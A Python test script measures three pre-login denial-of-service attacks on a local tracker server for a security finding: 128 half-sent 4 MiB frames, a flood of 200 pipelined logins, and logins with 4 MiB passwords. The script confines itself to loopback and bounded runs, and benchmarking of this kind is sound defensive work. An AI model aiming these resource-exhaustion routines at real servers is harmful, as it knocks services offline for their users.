#!/usr/bin/env python3
"""Pre-login attacks on the tracker (issue 10, finding 2), measured; loopback only, bounded.

usage: preauth_attack.py TRACKER

Starts TRACKER in a temp dir on 127.0.0.1:0 (bench/attack/rawtracker.py) and prints one line each:
  half_frames    tracker RSS before -> after 128 TLS connections from 127.0.0.2 that each send a
                 4 MiB frame header and all but one byte of its body, and how many of them the
                 tracker had closed by then (the finding: 31 -> 1,089 MB, none closed)
  login_flood    a genuine login's time from 127.0.0.1 while 200 pipelined logins for unknown
                 ids from 127.0.0.2 wait (one connection, as in the finding), the same login
                 without the flood, and how many flood logins were refused (the finding: 9.7 s)
  big_passwords  tracker RSS before -> peak under 60 pipelined logins with 4 MiB passwords on one
                 connection, and how many were answered before the connection closed
                 (the finding: 320 MB)
"""
import sys
import time

from rawtracker import MIB, Tracker, request_frame, rss_kib


def login_frame(seq, user, password):
    return request_frame("login", seq, user=user, password=password, listen="127.0.0.1:1")


def genuine_login_s(t):
    g = t.conn()
    start = time.monotonic()
    r = g.ask("login", user="alice", password="pw", listen="127.0.0.1:1")
    took = time.monotonic() - start
    g.close()
    if not (r and r.get("ok") == 1):
        raise RuntimeError(f"genuine login failed: {r}")
    return took


def half_frames(t):
    before = rss_kib(t.pid)
    conns = []
    header, body_but_one = (4 * MIB).to_bytes(4, "big"), b"x" * (4 * MIB - 1)
    for _ in range(128):
        h = t.conn("127.0.0.2")
        if h.send_raw(header):
            h.send_raw(body_but_one)
        conns.append(h)
    genuine_login_s(t)  # the tracker has read what came before
    after = rss_kib(t.pid)
    closed = sum(h.closed(0.05) is not None for h in conns)
    for h in conns:
        h.close()
    print(f"half_frames: RSS {before / 1024:.0f} MB -> {after / 1024:.0f} MB "
          f"(128 connections, 4 MiB header + all but one byte; {closed} closed by the tracker)")


def login_flood(t):
    quiet = genuine_login_s(t)
    flood = t.conn("127.0.0.2")
    flood.send_raw(b"".join(login_frame(i + 1, f"ghost{i}", "guess") for i in range(200)))
    first = flood.read_frame()  # the flood has been read
    took = genuine_login_s(t)
    refused = 1 if first and b"throttled" in first else 0
    for _ in range(199):
        r = flood.read_frame()
        if r is None:
            break
        refused += b"throttled" in r or b"5:limit" in r
    flood.close()
    print(f"login_flood: genuine login {took:.2f} s under the flood ({quiet:.2f} s "
          f"without); {refused} of 200 flood logins refused")


def big_passwords(t):
    before = peak = rss_kib(t.pid)
    big = t.conn("127.0.0.3")
    pw = "p" * (4 * MIB - 200)
    for i in range(60):
        if not big.send_raw(login_frame(i + 1, "alice", pw)):
            break
        peak = max(peak, rss_kib(t.pid))
    deadline = time.monotonic() + 30
    answered = 0
    while time.monotonic() < deadline and answered < 60:
        r = big.read_frame()
        peak = max(peak, rss_kib(t.pid))
        if r is None:
            break
        answered += 1
    big.close()
    print(f"big_passwords: RSS {before / 1024:.0f} MB -> peak {peak / 1024:.0f} MB "
          f"(60 pipelined 4 MiB-password logins; {answered} answered before close)")


def main():
    if len(sys.argv) != 2 or sys.argv[1].startswith("-"):
        sys.exit(__doc__)
    with Tracker(sys.argv[1]) as t:
        c = t.conn()
        if c.ask("create_user", user="alice", password="pw").get("ok") != 1:
            raise RuntimeError("create_user alice failed")
        half_frames(t)
        time.sleep(1)  # the closed connections are gone
        login_flood(t)
        time.sleep(1)
        big_passwords(t)


if __name__ == "__main__":
    main()
